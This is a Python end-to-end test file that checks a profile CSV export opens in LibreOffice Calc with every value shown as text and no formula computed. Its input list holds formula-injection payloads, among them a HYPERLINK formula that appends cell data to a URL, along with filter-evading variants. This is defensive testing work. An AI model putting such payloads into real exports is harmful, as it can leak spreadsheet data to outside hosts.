"""A CSV export opened in LibreOffice Calc, as people open it: the values, all of them, as text."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from libs.profile.model import Profile, Skill
from tests.e2e.conftest import Person
from tests.e2e.profiles import analysed, replace
from tests.support.dossier import dossier
from tests.support.programs import tabulate
from tests.support.sheet_reader import grid
from tests.support.spreadsheet import SheetCell, cells
from tests.support.stack import Stack

pytestmark = pytest.mark.timeout(900)  # the first of these may install LibreOffice

NAMES = "Zoë “Zo” Øster, Владимир 山田 太郎 محمد 🚀"
FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://example.com/?"&A1,"click")',
    "+1-555-0100",
    "-2+3",
    "@SUM(A1:A9)",
    "＝1+1",
    "  =1+1",
    "\t=1+1",
    "'=1+1",
    "a;=1+1",
    "first\n=1+1",
]
TEXTS = [
    'one, two, "three"',
    '"',
    '""quoted, twice""',
    "first line\nsecond, line\n\nfourth",
    "ends with a comma,",
    "two  blanks",
    "データ分析",
    "управление проектами",
    "ניהול",
    "C++ / C# / .NET",
]


# What a spreadsheet takes for a number, a date or a share, unless it is told not to.
FIGURES = ["07700900123", "1e5", "3/4", "(503)", "3.90", "5 %", "TRUE", "2019-03-04"]


def written(*more: str) -> Profile:
    """With everything in it that a table could take for something else."""
    profile = dossier(summary='Plans, "routes",\nand rosters; =2+3 = 5.')
    profile.personal_info.name = NAMES
    profile.experience[0].company = 'Müller, Søn & "Partners" 株式会社'
    profile.experience[0].highlights = [*FORMULAS, *TEXTS]
    skills = (*TEXTS, *FORMULAS, *more)
    profile.skills = [Skill(name=text, category="Данные, 資料") for text in skills]
    return profile


async def exported(system: Stack, person: Person, profile: Profile) -> bytes:
    job_id = await analysed(person)
    await replace(system, job_id, profile)
    answer = await person.call("GET", f"/api/analysis/export?job_id={job_id}&format=csv")
    assert answer.status_code == 200, answer.text
    return answer.content


def opened(content: bytes, directory: Path, *, all_text: bool = False) -> list[list[SheetCell]]:
    source = directory / "profile.csv"
    source.write_bytes(content)
    return cells(tabulate(source, directory / "out", all_text=all_text))


def assert_shown(sheet: list[list[SheetCell]], content: bytes) -> None:
    """Every cell as it was written, and nothing computed."""
    wanted = [[cell.replace("\r\n", "\n") for cell in row] for row in grid(content)]
    while not any(wanted[-1]):
        wanted.pop()
    assert [[cell.shown for cell in row[: len(wanted[0])]] for row in sheet] == wanted
    assert not [cell for row in sheet for cell in row if cell.formula]


async def test_calc_shows_every_value_and_computes_none(
    system: Stack, ana: Person, tmp_path: Path
) -> None:
    content = await exported(system, ana, written())
    sheet = opened(content, tmp_path)
    assert_shown(sheet, content)
    texts = {cell.shown for row in sheet for cell in row if cell.kind == "string"}
    # One apostrophe before what would be computed is ours, and a line of it where a cell begins
    # for a spreadsheet that splits at other characters.
    values = {re.sub(r"(^|[;\t\r\n])'", r"\1", text) for text in texts}
    assert {NAMES, *TEXTS, *FORMULAS} <= values


async def test_figures_stay_as_written_where_quoted_fields_are_taken_as_text(
    system: Stack, ana: Person, tmp_path: Path
) -> None:
    """All are quoted, so that this one tick is enough."""
    content = await exported(system, ana, written(*FIGURES))
    sheet = opened(content, tmp_path, all_text=True)
    assert_shown(sheet, content)
    assert {cell.kind for row in sheet for cell in row if cell.shown} == {"string"}
    assert set(FIGURES) <= {cell.shown for row in sheet for cell in row}
